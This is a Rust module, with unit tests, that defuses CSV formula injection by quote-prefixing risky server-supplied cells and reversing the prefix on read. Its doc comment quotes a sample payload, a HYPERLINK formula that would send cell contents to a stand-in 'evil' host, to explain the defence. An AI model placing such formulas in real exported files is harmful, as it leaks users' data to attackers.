//! Server text in CSV cells, kept from becoming a spreadsheet formula.
//!
//! # Why
//! Results and catalog files are opened in spreadsheets, and a spreadsheet
//! runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or CR before
//! one) as a formula: a server that answers with a task ID or a title of
//! `=HYPERLINK("http://evil/?"&A1,"click")` would have the user's own
//! spreadsheet send their data away. Following OWASP's CSV-injection
//! guidance, such a value is written with a `'` in front, which a
//! spreadsheet shows as text and does not evaluate.
//!
//! Only **server-supplied** fields get this (task IDs, error messages;
//! the catalog's clip IDs, titles, styles, models, dates, URLs); the user's
//! own `id`s are theirs, and the numbers and statuses batchgen writes
//! cannot start with these characters.
//!
//! # Symmetric
//! Task IDs are sent back to the server by `collect`, and URLs are
//! downloaded, so reading a file back must give the server's exact text.
//! [`escape`] also prefixes a value that already starts with `'` (so
//! `'abc` is written `''abc`), and [`unescape`] removes one `'` only when
//! what follows is one of those characters or another `'`. So
//! `unescape(escape(s)) == s` for every `s`, and a value batchgen did not
//! escape (one starting `'a`, say) reads back unchanged.

use std::borrow::Cow;

/// Whether a spreadsheet could take a cell starting like `s` for a formula.
fn risky(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r', '\''])
}

/// `s` as written into a CSV cell: `'` in front when it could be a formula
/// (or starts with `'`).
pub fn escape(s: &str) -> Cow<'_, str> {
    if risky(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// A cell as [`escape`] wrote it, back to the original text.
pub fn unescape(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if risky(rest) => rest,
        _ => cell,
    }
}

/// For `#[serde(with = "crate::files::results::cell")]` on a `String` field.
///
/// # Errors
/// The serializer's.
pub fn serialize<S: serde::Serializer>(value: &str, s: S) -> Result<S::Ok, S::Error> {
    s.serialize_str(&escape(value))
}

/// For `#[serde(with = "crate::files::results::cell")]` on a `String` field.
///
/// # Errors
/// The deserializer's.
pub fn deserialize<'de, D: serde::Deserializer<'de>>(d: D) -> Result<String, D::Error> {
    let cell: String = serde::Deserialize::deserialize(d)?;
    Ok(match unescape(&cell) {
        same if same.len() == cell.len() => cell,
        original => original.to_owned(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused_and_read_back_exactly() {
        for (original, written) in [
            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("'abc", "''abc"),
            ("'", "''"),
            ("task-1", "task-1"),
            ("", ""),
            ("a=b", "a=b"),
        ] {
            assert_eq!(escape(original), written, "{original:?}");
            assert_eq!(unescape(written), original, "{written:?}");
        }
        // Not written by escape: read as it is.
        assert_eq!(unescape("'abc"), "'abc");
    }
}
